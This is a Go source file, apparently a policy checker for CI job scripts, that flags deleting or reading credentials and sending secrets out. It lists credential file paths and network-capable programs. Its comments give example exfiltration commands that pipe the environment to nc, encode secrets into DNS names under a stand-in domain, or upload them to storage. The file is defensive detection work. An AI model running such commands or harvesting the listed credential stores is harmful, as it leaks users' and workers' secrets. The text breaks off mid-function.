package policy

import (
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// The sensitive-path model, shared by every rule that deletes, writes,
// reads or sends files: credentials and keys (in a home directory, and the
// system's own), the home directory's direct children, and (in the older
// rules) system directories and devices.
const (
	ruleCredentialDestroy = "paths:credential-destroy" //nolint:gosec // a rule name, not a credential
	ruleHomeDestroy       = "paths:home-destroy"
	ruleCredentialRead    = "paths:credential-read" //nolint:gosec // a rule name, not a credential
	ruleShellSocket       = "egress:shell-socket"
	ruleEnvSend           = "egress:env-send"
	ruleDataSend          = "egress:data-send"
	ruleSecretPrint       = "secrets:secret-print"
)

// credentialDirs are home-relative directories that hold credentials:
// destroying one destroys them, reading one (tar, scp -r) reads them.
var credentialDirs = []string{
	".ssh", ".aws", ".gnupg", ".kube", ".azure", ".config/gcloud", ".config/gh", ".config/doctl", ".password-store",
	"Library/Keychains", ".oci", ".docker", ".config/hub", ".config/rclone", ".terraform.d", ".vault-token",
	// the desktop keyrings (GNOME Keyring, KWallet) and the key stores of pass-like tools
	".local/share/keyrings", ".local/share/kwalletd", ".gopass", ".local/share/gopass",
	// App Store Connect's API keys, and Safari's and other apps' cookie jars (sessions)
	".appstoreconnect", ".private_keys", "private_keys", "Library/Cookies",
}

// homeCredentialFiles are home-relative files that hold credentials.
// sshTokens are ssh_config's % tokens as a shell command would see them.
var sshTokens = strings.NewReplacer("%%", "%", "%d", "~", "%h", "x", "%p", "22", "%r", "x", "%u", "x", "%n", "x", "%C", "x", "%L", "x", "%l", "x", "%i", "1000", "%k", "x")

// autoRunDirs are directories whose files an editor, desktop or shell
// loads and runs at its start.
var autoRunDirs = []string{"~/.vim/plugin/", "~/.vim/autoload/", "~/.vim/pack/", "~/.config/nvim/", "~/.emacs.d/", "~/.config/autostart/",
	"~/.config/fish/", "/etc/profile.d/", "/etc/cron.d/", "/etc/cron.daily/", "/etc/cron.hourly/", "~/.ipython/profile_default/startup/"}

// autoRunPath reports a file something loads and runs at its start.
func autoRunPath(p string) bool {
	if path.Base(p) == ".emacs" {
		return true
	}
	for _, d := range autoRunDirs {
		if strings.HasPrefix(p, d) {
			return true
		}
	}
	return false
}

// sharedHomeDirs hold many tools' directories: reading one of them whole
// is not, by itself, reading a credential.
var sharedHomeDirs = map[string]bool{".config": true, ".local": true, ".local/share": true, "Library": true, "Library/Application Support": true, "": true,
	".cargo": true, ".m2": true, ".gem": true, ".gradle": true} // caches, whole: what CI saves and restores

var homeCredentialFiles = []string{
	".netrc", ".pgpass", ".git-credentials", ".npmrc", ".pypirc", ".my.cnf", ".vault-token", ".boto", ".s3cfg",
	".docker/config.json", ".kube/config", ".aws/credentials", ".config/rclone/rclone.conf", ".terraformrc",
	".config/gh/hosts.yml", ".cargo/credentials", ".cargo/credentials.toml", ".gem/credentials", ".m2/settings-security.xml",
	// private keys of encryption and signing tools, and CLIs' tokens
	".config/sops/age/keys.txt", ".config/age/keys.txt", "Library/Application Support/sops/age/keys.txt", ".kaggle/kaggle.json",
	".databrickscfg", ".config/hcloud/cli.toml", ".config/flyctl/config.yml", ".fly/config.yml", ".config/helm/repositories.yaml",
	".config/heroku/credentials", ".snowsql/config", ".config/op/config", ".bluemix/config.json", ".config/linode-cli", ".ngrok2/ngrok.yml",
	".config/ngrok/ngrok.yml", ".config/stripe/config.toml", ".wrangler/config/default.toml", ".config/.wrangler/config/default.toml",
	".rancher/cli2.json", ".config/doctl/config.yaml", ".talos/config", ".kube/kubeconfig",
	// coding agents' and AI tools' keys and the tokens in their MCP server configurations
	".codex/auth.json", ".claude/.credentials.json", ".cursor/mcp.json", "Library/Application Support/Claude/claude_desktop_config.json",
	".config/Claude/claude_desktop_config.json", ".continue/config.yaml", ".continue/config.json", ".gemini/oauth_creds.json",
	".config/github-copilot/hosts.json", ".config/github-copilot/apps.json", ".codeium/config.json", ".config/openai/auth.json",
	".config/kcat.conf", ".config/rpk/rpk.yaml", ".config/borg/keys", ".config/kopia/repository.config", ".config/restic", ".config/nats/context", ".local/share/nats/nsc/keys",
	".m2/settings.xml", ".gradle/gradle.properties", ".circleci/cli.yml", ".sentryclirc", ".jfrog/jfrog-cli.conf.v6", ".jfrog/jfrog-cli.conf",
	".config/newrelic-cli/credentials.json", ".dogrc", ".pd.yml", ".config/pagerduty-cli/config.json", ".yarnrc.yml", ".nuget/NuGet/NuGet.Config",
	".dbt/profiles.yml", ".chef/encrypted_data_bag_secret", ".config/fastlane/spaceauth", ".airflow/airflow.cfg",
	".okta/okta.yaml", ".config/okta/okta.yaml", ".gam/oauth2service.json", ".gam/oauth2.txt", ".config/containers/auth.json",
	// platform and SaaS CLIs' logins
	".local/share/com.vercel.cli/auth.json", "Library/Application Support/com.vercel.cli/auth.json", ".config/netlify/config.json",
	".netlify/config.json", ".config/configstore/firebase-tools.json", ".twilio-cli/config.json", ".config/auth0/config.json",
	".mc/config.json", ".config/tea/config.yml", ".config/glab-cli/config.yml", ".railway/config.json", ".supabase/access-token",
	".pulumi/credentials.json", ".terraform.d/credentials.tfrc.json", ".config/composer/auth.json", ".composer/auth.json",
	".aliyun/config.json", ".config/scw/config.yaml", ".config/exoscale/exoscale.toml", ".config/openstack/clouds.yaml",
	".vultr-cli.yaml", ".b2_account_info", ".doppler/.doppler.yaml", ".config/argocd/config", ".jenkins-cli", ".nomad-token",
	".cache/huggingface/token", ".huggingface/token", ".cache/huggingface/stored_tokens", ".config/openai/key", ".config/anthropic/key",
}

// packageStore reports a home-relative path inside a package manager's
// store or a cache, whose files are packages' own (a test fixture named
// credentials.json in ~/.cargo/registry), not a login.
func packageStore(rel string) bool {
	for _, p := range []string{".cargo/registry/", ".cargo/git/", ".m2/repository/", ".gradle/caches/", ".npm/", ".cache/", ".local/lib/",
		".rustup/", ".pyenv/versions/", ".rbenv/versions/", ".nvm/versions/", ".gem/ruby/", ".local/share/virtualenvs/", "go/pkg/mod/", ".vscode/extensions/"} {
		if strings.HasPrefix(rel, p) {
			return true
		}
	}
	return strings.Contains(rel, "/site-packages/") || strings.Contains(rel, "/node_modules/") || strings.Contains(rel, "/vendor/")
}

// credentialBases are file names that hold a login wherever a tool keeps
// them in a directory of the home (~/.config/TOOL/auth.json,
// ~/.TOOL/credentials.json).
var credentialBases = map[string]bool{"auth.json": true, "credentials": true, "credentials.json": true, "credentials.toml": true,
	"credentials.yml": true, "credentials.yaml": true, ".credentials.json": true, "access-token": true, "access_token": true,
	"token.json": true, "tokens.json": true, "oauth_creds.json": true, "secrets.json": true, "secrets.yml": true, "secrets.yaml": true}

// browserProfiles are the home-relative directories of browsers' profiles.
var browserProfiles = []string{".mozilla/", ".config/google-chrome/", ".config/chromium/", ".config/BraveSoftware/",
	".config/microsoft-edge/", "Library/Application Support/Google/Chrome/", "Library/Application Support/Firefox/",
	"Library/Application Support/BraveSoftware/", "Library/Application Support/Microsoft Edge/"}

// browserSecrets reports a browser's saved passwords, their key or its
// cookies (logins.json, key4.db, Login Data, Cookies) under a profile.
func browserSecrets(rel string) bool {
	if strings.HasSuffix(rel, "/Cookies.binarycookies") && (strings.HasPrefix(rel, "Library/Cookies/") ||
		strings.HasPrefix(rel, "Library/Containers/com.apple.Safari/")) {
		return true // Safari's cookies
	}
	i := slices.IndexFunc(browserProfiles, func(p string) bool { return strings.HasPrefix(rel+"/", p) })
	if i < 0 {
		return false
	}
	switch path.Base(rel) {
	case "logins.json", "key4.db", "key3.db", "signons.sqlite", "cookies.sqlite", "Login Data", "Cookies", "Local State":
		return true
	}
	// the profiles' directory, a browser's, or one profile whole
	// (~/.mozilla/firefox/x1y2.default-release, Chrome/Default): what is
	// copied or packed with it holds the saved passwords and cookies
	rest := strings.TrimPrefix(rel+"/", browserProfiles[i])
	depth := strings.Count(rest, "/")
	base := path.Base(rel)
	return depth == 0 || depth <= 2 && (!strings.Contains(base, ".") || strings.Contains(base, ".default"))
}

// systemCredentials are absolute credential files and directories.
var systemCredentials = []string{
	"/etc/shadow", "/etc/gshadow", "/etc/master.passwd", "/etc/security/opasswd", "/var/run/secrets", "/run/secrets",
	"/etc/krb5.keytab", // the machine's Kerberos keys: anyone holding it is the machine to the domain
	"/etc/ssh/ssh_host_rsa_key", "/etc/ssh/ssh_host_ecdsa_key", "/etc/ssh/ssh_host_ed25519_key",
	// private keys of the machine's TLS, VPN and certificate authorities
	"/etc/ssl/private", "/etc/pki/tls/private", "/etc/wireguard", "/etc/letsencrypt/live", "/etc/letsencrypt/archive",
	"/etc/cfssl", "/etc/ipsec.secrets", "/etc/openvpn/server.key", "/etc/kubernetes/pki", "/etc/kubernetes/admin.conf",
	"/etc/kubernetes/super-admin.conf", "/etc/kubernetes/controller-manager.conf", "/etc/kubernetes/scheduler.conf",
	// k3s and rke2: the cluster's admin kubeconfig, its join token and CA keys
	"/etc/rancher/k3s/k3s.yaml", "/etc/rancher/rke2/rke2.yaml", "/var/lib/rancher/k3s/server/node-token", "/var/lib/rancher/k3s/server/token",
	"/var/lib/rancher/k3s/server/tls", "/var/lib/rancher/rke2/server/node-token", "/var/lib/rancher/rke2/server/token", "/var/lib/rancher/rke2/server/tls",
	"/var/lib/kubelet/pki", "/etc/kubernetes/kubelet.conf",
	// CI runners' and agents' registration tokens and keys
	// Wi-Fi and VPN secrets NetworkManager keeps
	"/etc/NetworkManager/system-connections",
	// backup repositories' passwords and keys
	"/etc/restic", "/root/.config/borg/keys", "/etc/borgmatic/passphrase", "/etc/kopia",
	"/var/lib/jenkins/secrets", "/var/lib/jenkins/credentials.xml", "/etc/gitlab-runner/config.toml", "/etc/buildkite-agent/buildkite-agent.cfg",
	"/etc/datadog-agent/datadog.yaml", "/etc/gitlab/gitlab-secrets.json", "/etc/gitlab/initial_root_password",
	// the Mac's auto-login password, Ceph's admin keyring, TLS keys a proxy
	// serves (HAProxy keeps key and chain in one .pem), Bacula's passwords
	"/etc/kcpassword", "/etc/ceph/ceph.client.admin.keyring", "/etc/haproxy/certs", "/etc/bacula/bacula-dir.conf",
	// a cluster's scheduler database password and the key every node's munge authenticates with
	"/etc/slurm/slurmdbd.conf", "/etc/munge/munge.key",
	"/etc/mysql/debian.cnf", "/etc/grafana/grafana.ini", "/nexus-data/admin.password",
	"/var/lib/zerotier-one/identity.secret", "/var/lib/tailscale/tailscaled.state",
}

// mountedSecret reports a file of the secrets a container or pod is
// given (/run/secrets/NAME): there to be read by the programs that use it.
func mountedSecret(p string) bool {
	return strings.HasPrefix(p, "/run/secrets/") || strings.HasPrefix(p, "/var/run/secrets/")
}

// letsencryptPublic reports a certificate or chain Let's Encrypt keeps
// beside its private key (live/example.com/fullchain.pem): public.
func letsencryptPublic(c string) bool {
	if !strings.HasPrefix(c, "/etc/letsencrypt/live/") && !strings.HasPrefix(c, "/etc/letsencrypt/archive/") {
		return false
	}
	base := path.Base(c)
	return strings.HasSuffix(base, ".pem") && (strings.HasPrefix(base, "cert") || strings.HasPrefix(base, "chain") || strings.HasPrefix(base, "fullchain")) ||
		base == "README"
}

// isCredentialPath reports whether p names a credential or key, or a
// directory that holds them (~/.ssh, ~/.aws). Public keys (*.pub), known
// hosts and the SSH client configuration are not credentials.
func isCredentialPath(p string) bool {
	if strings.HasSuffix(p, "/containers/auth.json") && strings.HasPrefix(p, "/run/user/") {
		return true // podman's, skopeo's and buildah's registry logins
	}
	c, ok := cleanAbs(p)
	if !ok {
		return false
	}
	for _, s := range systemCredentials {
		if c == s || strings.HasPrefix(c, s+"/") {
			// a pod's service-account directory also holds the cluster's
			// CA certificate and its namespace's name: public
			return !strings.HasSuffix(c, "/serviceaccount/ca.crt") && !strings.HasSuffix(c, "/serviceaccount/namespace") && !letsencryptPublic(c)
		}
	}
	rel, ok := homeRelative(c)
	if !ok {
		return false
	}
	if slices.Contains(homeCredentialFiles, rel) || browserSecrets(rel) {
		return true
	}
	if !sharedHomeDirs[rel] && slices.ContainsFunc(homeCredentialFiles, func(f string) bool { return strings.HasPrefix(f, rel+"/") }) {
		return true // a tool's directory that holds its token (~/.claude, ~/.kaggle): read whole, by tar or cp -r
	}
	base := path.Base(rel)
	if credentialBases[base] && strings.HasPrefix(rel, ".") && strings.Contains(rel, "/") && !packageStore(rel) {
		return true // in a tool's directory, not a project's file in the home
	}
	if dir, file, ok := strings.Cut(rel, "/"); ok && dir == ".ssh" {
		if strings.ContainsAny(file, "*?[") && !strings.Contains(file, "/") {
			// ~/.ssh/*: a pattern that matches a private key's name
			return globMatchesAny(file, "id_rsa", "id_ed25519", "id_ecdsa", "id_dsa", "id_ed25519_sk", "deploy.pem", "deploy.key")
		}
		return !strings.HasSuffix(file, ".pub") && !strings.Contains(file, "/") &&
			(strings.HasPrefix(base, "id_") || strings.HasSuffix(base, ".pem") || strings.HasSuffix(base, ".key") || strings.HasSuffix(base, ".ppk"))
	}
	for _, d := range credentialDirs {
		if rel == d {
			return true
		}
		sub, ok := strings.CutPrefix(rel, d+"/")
		if !ok || strings.HasSuffix(base, ".pub") {
			continue
		}
		if files, mixed := credentialDirFiles[d]; mixed {
			top, _, _ := strings.Cut(sub, "/")
			if strings.ContainsAny(top, "*?[") {
				return globMatchesAny(top, files...) // ~/.aws/*
			}
			return slices.Contains(files, top)
		}
		return true
	}
	return false
}

// globMatchesAny reports whether the shell pattern matches one of names.
func globMatchesAny(pattern string, names ...string) bool {
	for _, n := range names {
		if ok, err := path.Match(pattern, n); err == nil && ok {
			return true
		}
	}
	return false
}

// credentialDirFiles are the credential directories that also hold plain
// configuration: inside them only these entries are credentials (gcloud's
// token databases, not its configurations; gh's hosts.yml, not its
// config.yml). Destroying or reading the whole directory still counts.
var credentialDirFiles = map[string][]string{
	".config/gcloud": {"credentials.db", "access_tokens.db", "legacy_credentials", "application_default_credentials.json",
		"credentials.json"},
	".config/gh": {"hosts.yml"},
	".azure": {"accessTokens.json", "msal_token_cache.json", "msal_token_cache.bin", "service_principal_entries.json",
		"service_principal_entries.bin", "msal_http_cache.bin"},
	".docker": {"config.json"},
	".kube":   {"config"},
	".aws":    {"credentials", "sso", "cli", "login"}, // config names profiles and regions
}

// homeCaches are direct children of a home directory that only hold what
// tools download or rebuild: deleting them loses nothing.
var homeCaches = []string{".cache", "cache", ".npm", ".yarn", ".pnpm-store", ".Trash", "tmp", ".tmp", ".gradle", ".m2", ".nuget", ".bundle", ".cargo", ".rustup", ".nvm", ".pyenv", ".local/share/Trash",
	"node_modules", ".venv", "venv", ".virtualenvs", "__pycache__", ".pytest_cache", ".mypy_cache", ".terraform.d/plugin-cache"}

// isHomeChild reports whether p is a direct child of a home directory that
// holds the user's own data or configuration: a well-known personal
// directory (~/Documents), a hidden one (~/.config, ~/.local), a
// directory of work (~/projects, ~/src, ~/app), or a pattern over them
// (~/.[!.]*). Only what tools download or rebuild (homeCaches) is not
// one. A directory below a child (~/projects/app/build) is the job's
// business.
func isHomeChild(p string, _ bool) bool {
	c, ok := cleanAbs(p)
	if !ok {
		return false
	}
	rel, ok := homeRelative(c)
	for _, all := range []string{"/*", "/.*", "/**"} {
		rel = strings.TrimSuffix(rel, all) // ~/Desktop/* empties ~/Desktop
	}
	return ok && rel != "" && (!strings.Contains(rel, "/") && !slices.Contains(homeCaches, rel) || appDataStore(rel) || rel == "Library/Developer")
}

// appDataStores are the directories of a (macOS) home that hold each
// application's own data, one entry per application: an entry, or the
// whole store, is the user's data as a direct child of home is (Chrome's
// profile, Postgres.app's databases, iCloud Drive, a sandboxed app's
// container). Caches and logs are not among them.
var appDataStores = []string{"Library/Application Support", "Library/Containers", "Library/Group Containers",
	"Library/Mobile Documents", "Library/Preferences", "Library/Mail", "Library/Messages", "Library/Safari",
	"Library/Calendars", "Library/Keychains", "Library/Photos", "Library/Accounts", "Library/Cookies",
	"Library/Developer/Xcode/Archives"} // signed builds, as submitted

// appDataFileStores are the stores whose files are each a database of the
// user's (Messages' chat.db, Safari's History.db, the cookie jar): deleting
// one, recursive or not, loses them.
var appDataFileStores = []string{"Library/Messages", "Library/Safari", "Library/Cookies", "Library/Mail", "Library/Calendars",
	"Library/Keychains", "Library/Accounts"}

// appDataFile reports a file of an appDataFileStores directory.
func appDataFile(p string) bool {
	c, ok := cleanAbs(p)
	if !ok {
		return false
	}
	rel, ok := homeRelative(c)
	return ok && slices.ContainsFunc(appDataFileStores, func(s string) bool {
		rest, ok := strings.CutPrefix(rel, s+"/")
		return ok && rest != "" && !appDataScrap(rest)
	})
}

// appDataStore reports whether rel (a path in a home) is an application
// data store, an entry of one down to the third level
// (Library/Application Support/Google/Chrome/Default) that is not scrap, or
// a photo or music library.
func appDataStore(rel string) bool {
	for _, s := range appDataStores {
		if rel == s {
			return true
		}
		if rest, ok := strings.CutPrefix(rel, s+"/"); ok && rest != "" && strings.Count(rest, "/") < 3 && !appDataScrap(rest) {
			return true
		}
	}
	base := path.Base(rel)
	return strings.HasSuffix(base, ".photoslibrary") || strings.HasSuffix(base, ".musiclibrary")
}

// appDataScrap reports whether a path in an application data store names
// what the application rebuilds by itself: caches, logs, crash reports,
// temporary files, virtual environments. Everything else down to the third
// level (Google/Chrome/Default, Postgres/var-16, Code/User) is the user's
// profile, databases or settings.
func appDataScrap(rest string) bool {
	l := strings.ToLower(rest)
	for _, w := range []string{"cache", "log", "crash", "tmp", "temp", "virtualenv", "venv", "node_modules", "/update", "shipit"} {
		if strings.Contains(l, w) {
			return true
		}
	}
	return false
}

// sensitiveDeleteHits classifies deleting or moving away t by the
// sensitive-path model; it reports whether it found something.
func sensitiveDeleteHits(tool string, t target, recursive, moved bool, h *hits) bool {
	switch {
	case isCredentialPath(t.path):
		h.add(ruleCredentialDestroy, tool+" of credentials "+t.show)
	case recursive && isHomeChild(t.path, moved) || appDataFile(t.path):
		h.add(ruleHomeDestroy, tool+" of home directory "+t.show)
	default:
		return false
	}
	return true
}

// credentialReaders are the programs that print, copy, pack or send the
// files they are given: reading a credential with one is a leak (the
// job's output leaves the machine) or the first half of one.
var credentialReaders = []string{
	"cat", "tac", "head", "tail", "less", "more", "nl", "xxd", "od", "hexdump", "hd", "base64", "base32", "basenc",
	"strings", "grep", "egrep", "fgrep", "rg", "ag", "awk", "gawk", "mawk", "nawk", "sed", "sort", "uniq", "cut", "paste",
	"jq", "yq", "openssl", "tar", "zip", "7z", "gzip", "bzip2", "xz", "zstd", "cp", "scp", "rsync", "dd", "socat", "curl",
	"wget", "http", "xh", "xhs", "curlie", "aws", "gsutil", "gcloud", "az", "rclone", "mc", "s3cmd", "b2", "bat", "batcat", "column", "fold", "rev", "tr", "perl", "install", "gpg", "age", "split",
	// databases a credential store is kept in (gcloud's credentials.db, a browser's Login Data), and file senders
	"sqlite3", "duckdb", "litecli", "wormhole", "croc", "ffsend", "magic-wormhole", "transfer", "sendme",
	"s5cmd", "azcopy", "buildkite-agent", "oci", "swift", "ossutil", "coscmd",
	"gh",               // gh gist create FILE (only gist: gh secret set -f .env stores a secret where it belongs)
	"hdiutil", "ditto", // macOS: a disk image or an archive of a folder (hdiutil create -srcfolder ~/.ssh)
	"xargs",                                               // xargs -a FILE: the file's words are the arguments of the command it runs
	"mutt", "neomutt", "mail", "mailx", "s-nail", "mpack", // mutt -a FILE -- ADDRESS: attached and mailed
	"parallel", // parallel -a FILE: as xargs -a
}

// secretPrinters are the credentialReaders whose output is what they
// read (not an archive, a copy or a transfer).
var secretPrinters = map[string]bool{"cat": true, "tac": true, "head": true, "tail": true, "less": true, "more": true, "nl": true,
	"xxd": true, "od": true, "hexdump": true, "hd": true, "base64": true, "base32": true, "basenc": true, "strings": true, "grep": true,
	"egrep": true, "fgrep": true, "rg": true, "ag": true, "awk": true, "gawk": true, "mawk": true, "nawk": true, "sed": true, "sort": true,
	"uniq": true, "cut": true, "paste": true, "jq": true, "yq": true, "bat": true, "batcat": true, "column": true, "fold": true, "rev": true, "tr": true}

// netSenders are the programs that send what they are given (on stdin, in
// their arguments, in a host name they look up) over the network.
var netSenders = []string{
	"curl", "wget", "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "http", "https", "xh", "xhs", "curlie",
	"ssh", "openssl", "dig", "nslookup", "host", "drill", "ping", "ping6", "delv", "kdig", "fetch", "aria2c", "sendmail", "mail", "mailx",
}

// secretVarName matches a variable whose name says it holds a secret.
var secretVarName = regexp.MustCompile(`\$\{?[A-Z0-9_]*(SECRET|TOKEN|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIAL|DATABASE_URL|DB_URL|_DSN|CONNECTION_STRING|MONGO(DB)?_UR[IL]|REDIS_URL|AMQP_URL)[A-Z0-9_]*(\}|$|[^A-Za-z0-9_:#%/+-])`)

// matchSecretPrint judges echo and printf printing, into the job's output,
// a variable of the worker's environment (one the job does not set) whose
// name says it holds a secret: echo "$OPENAI_API_KEY"; or an access token
// a CLI printed into a variable: T=$(gh auth token); echo "$T". A job's own secrets
// are masked in its output; the worker's are not the submitter's to read.
func matchSecretPrint(c *command, h *hits) {
	if c.captured {
		return
	}
	for _, a := range c.args {
		if a.taint&taintEnv != 0 && secretVarName.MatchString(a.src) {
			h.add(ruleSecretPrint, c.name+" prints the worker's secret "+quoteDetail(a.src))
			return
		}
		if a.taint&taintToken != 0 {
			h.add(ruleSecretPrint, c.name+" prints an access token a CLI gave it, in "+quoteDetail(a.src))
			return
		}
		if a.taint&taintStored != 0 {
			// not taintSecret: what the job's own secret variables hold,
			// printed, the worker masks (echo "$TOKEN" | fold -w1 | ...)
			h.add(ruleSecretPrint, c.name+" prints a secret a secret store gave it, in "+quoteDetail(a.src))
			return
		}
	}
}

// dnsQuery are the programs that look a name up: what the name holds
// reaches the servers of its domain.
var dnsQuery = map[string]bool{"dig": true, "host": true, "nslookup": true, "drill": true, "delv": true, "kdig": true, "ping": true, "ping6": true, "getent": true, "resolvectl": true}

// matchEnvSend judges a network program sending the environment's values
// (env | nc HOST PORT, curl -d "$(printenv)", dig $(env | base64).x.example):
// the worker's and the job's secrets leave the machine.
func matchEnvSend(c *command, h *hits) {
	for _, a := range c.args {
		for _, p := range readPaths(a) {
			if p.lit && procEnviron.MatchString(p.val) {
				h.add(ruleEnvSend, c.name+" sends a process's environment ("+quoteDetail(p.val)+")")
				return
			}
		}
	}
	if c.stdin.taint&taintSecret != 0 {
		h.add(ruleEnvSend, c.name+" sends the environment it reads on stdin")
		return
	}
	if c.stdin.taint&taintData != 0 {
		h.add(ruleDataSend, c.name+" sends a database dump, a Terraform state, a shell history or a packed home directory it reads on stdin")
		return
	}
	if c.stdin.taint&taintToken != 0 {
		// gh auth token | curl -d @- URL: the token read on stdin goes
		// where the command sends, judged as one in its words is
		cc := *c
		cc.args = append(slices.Clone(c.args), arg{val: "-", src: "-", lit: true, taint: taintToken, exact: -1})
		if dest, ok := tokenSentAway(&cc); ok {
			h.add(ruleEnvSend, c.name+" sends an access token it reads on stdin to "+quoteDetail(dest)+", not to the service that issued it")
			return
		}
	}
	// ssh and openssl are left out: cat .env | ssh host 'cat > /srv/app/.env'
	// deploys it, openssl enc encrypts it
	envFileSender := c.name != "ssh" && c.name != "openssl"
	if envFileSender && c.stdin.taint&taintEnvFile != 0 {
		h.add(ruleEnvSend, c.name+" sends the project's secrets file it reads on stdin")
		return
	}
	if dnsQuery[c.name] && slices.ContainsFunc(c.args, func(a arg) bool { return a.taint&(taintToken|taintEnvFile) != 0 }) {
		// dig "$(gh auth token | xxd -p).x.example": the name asked for is
		// the message, read by whoever answers for its domain
		h.add(ruleEnvSend, c.name+" puts an access token or the project's secrets into a DNS name")
		return
	}
	if dest, ok := tokenSentAway(c); ok {
		h.add(ruleEnvSend, c.name+" sends an access token to "+quoteDetail(dest)+", not to the service that issued it")
		return
	}
	for i, a := range c.args {
		if i > 0 && a.lit && isProjectEnvFile(a.val) && slices.Contains([]string{"-T", "--upload-file", "--post-file", "--body-file"}, c.args[i-1].val) {
			h.add(ruleEnvSend, c.name+" sends the project's secrets file "+quoteDetail(a.val))
			return
		}
		if a.taint&taintData != 0 {
			h.add(ruleDataSend, c.name+" sends a database dump, a Terraform state, a shell history or a packed home directory in "+quoteDetail(a.src))
			return
		}
		if a.taint&taintSecret != 0 {
			h.add(ruleEnvSend, c.name+" sends the environment in "+quoteDetail(a.src))
			return
		}
		if envFileSender && a.taint&taintEnvFile != 0 {
			h.add(ruleEnvSend, c.name+" sends the project's secrets file in "+quoteDetail(a.src))
			return
		}
		paths := readPaths(a)[1:] // @FILE, file://FILE: a file the script wrote the environment to
		if f, ok := uploadedFile(c.args, i); ok {
			paths = append(paths, f) // curl -T FILE, curl -sT FILE, curl -TFILE, wget --post-file FILE
		}
		for _, p := range paths {
			if f, ok := c.files[fileKey(p.val)]; ok && f.s.taint&taintSecret != 0 {
				h.add(ruleEnvSend, c.name+" sends the environment written to "+quoteDetail(p.val))
				return
			} else if ok && f.s.taint&taintData != 0 {
				h.add(ruleDataSend, c.name+" sends a database dump, a Terraform state, a shell history or a packed home directory written to "+quoteDetail(p.val))
				return
			}
			if isHistoryFile(p.val) {
				h.add(ruleDataSend, c.name+" sends the shell history "+quoteDetail(p.val))
				return
			}
			if agentTranscripts(p.val) {
				h.add(ruleDataSend, c.name+" sends a coding agent's saved sessions "+quoteDetail(p.val))
				return
			}
			if isProjectEnvFile(p.val) {
				h.add(ruleEnvSend, c.name+" sends the project's secrets file "+quoteDetail(p.val))
				return
			}
		}
	}
}

// objectUploaders are object stores' and CI services' clients: they
// upload files, or their standard input, to a bucket or an artifact store.
var objectUploaders = []string{"aws", "gcloud", "gsutil", "rclone", "mc", "s3cmd", "s5cmd", "b2", "azcopy", "az", "oci", "buildkite-agent",
	"swift", "ossutil", "coscmd"}

// matchUploadEnv judges an object store's client given the environment:
// on its standard input (printenv | aws s3 cp - s3://x/e), or in a file
// the script wrote it to (env > /tmp/e && b2 upload-file b /tmp/e e).
func matchUploadEnv(c *command, h *hits) {
	stdin := false
	for _, a := range c.args {
		if !a.lit {
			continue
		}
		switch a.val {
		case "-", "/dev/stdin", "rcat", "pipe":
			stdin = true
		}
		v := a.val
		if _, after, ok := strings.Cut(v, "="); ok && strings.HasPrefix(v, "-") {
			v = after // --file=/tmp/e
		}
		if f, ok := c.files[fileKey(v)]; ok && f.s.taint&taintSecret != 0 {
			h.add(ruleEnvSend, c.name+" uploads the environment written to "+quoteDetail(v))
			return
		}
	}
	if stdin && c.stdin.taint&taintSecret != 0 {
		h.add(ruleEnvSend, c.name+" uploads the environment it reads on stdin")
	}
}

// fileSharers send the files they are given, or their standard input, to
// someone else: a gist, a transfer service, another machine.
var fileSharers = []string{"gh", "croc", "wormhole", "magic-wormhole", "ffsend", "transfer", "sendme"}

// matchEnvFileShare judges a file sharer given the project's secrets file,
// or standard input holding it or the environment (env | gh gist create -).
func matchEnvFileShare(c *command, h *hits) {
	ops, _ := operands(c.args, optSpec{short: "dRfp", long: []string{"desc", "filename", "repo", "code", "relay", "pass", "expiry", "downloads"}})
	if c.name == "gh" {
		if len(ops) < 2 || ops[0].val != "gist" || ops[1].val != "create" {
			return
		}
		ops = ops[2:]
	}
	for _, a := range ops {
		if a.lit && isProjectEnvFile(a.val) {
			h.add(ruleEnvSend, c.name+" shares the project's secrets file "+quoteDetail(a.val))
			return
		}
	}
	stdin := len(ops) == 0 || slices.ContainsFunc(ops, func(a arg) bool { return a.lit && a.val == "-" })
	if stdin && c.stdin.taint&(taintEnvFile|taintSecret) != 0 {
		h.add(ruleEnvSend, c.name+" shares the project's secrets file or the environment it reads on stdin")
	}
}

// matchCredentialRead judges a reader given a credential to read.
func matchCredentialRead(c *command, h *hits) {
	args := c.args
	if c.name == "gh" {
		if ops, _ := operands(args, optSpec{short: "dR", long: []string{"desc", "filename", "repo"}}); len(ops) == 0 || ops[0].val != "gist" {
			return
		}
	}
	if c.name == "tar" {
		args = tarOperands(args)
	}
	if c.name == "xargs" {
		// only the file it reads its arguments from: the command it runs
		// is judged as itself
		args = nil
		for _, o := range xargsOptions(c.args) {
			if o.name == "a" || o.name == "arg-file" {
				args = append(args, o.value)
			}
		}
	}
	if c.name == "parallel" {
		// parallel -a FILE, parallel CMD :::: FILE: the files its
		// arguments are read from
		var files []arg
		for i, a := range c.args {
			switch {
			case !a.lit:
			case (a.val == "-a" || a.val == "--arg-file" || a.val == "::::") && i+1 < len(c.args):
				files = append(files, c.args[i+1])
			case strings.HasPrefix(a.val, "--arg-file="):
				v := a
				v.val = strings.TrimPrefix(a.val, "--arg-file=")
				files = append(files, v)
			}
		}
		args = files
	}
	if c.name == "cp" || c.name == "install" {
		if ops, _ := operands(args, optSpec{short: "tSm", long: []string{"target-directory", "suffix", "mode"}}); len(ops) > 1 {
			if c.name == "cp" && len(ops) == 2 && c.keptInCredentialDir(ops[0], ops[1]) {
				return // cp ~/.kube/config ~/.kube/config.bak: a backup where the credential already is
			}
			args = ops[:len(ops)-1] // the sources; the destination is a write
		}
	}
	if c.name == "sed" && slices.ContainsFunc(args, func(a arg) bool { return a.lit && strings.HasPrefix(a.val, "-i") }) {
		return // in place: a write, judged as one
	}
	if grepCounts(c) || jqShape(c) {
		return // grep -c, -l, -q print counts, file names or nothing; jq 'keys' the names only
	}
	args = withoutCredentialUses(c.name, args)
	if !c.captured && secretPrinters[c.name] {
		for _, a := range args {
			if f, ok := c.files[fileKey(a.val)]; a.lit && ok && f.s.taint&taintPulled != 0 {
				h.add(ruleCredentialRead, c.name+" prints the secret store's values written to "+quoteDetail(a.val))
				return
			}
		}
	}
	for _, a := range args {
		if !a.lit && runtimeAuth.MatchString(a.src) {
			h.add(ruleCredentialRead, c.name+" reads credentials "+quoteDetail(a.src))
			return
		}
		if a.taint&taintCredential != 0 {
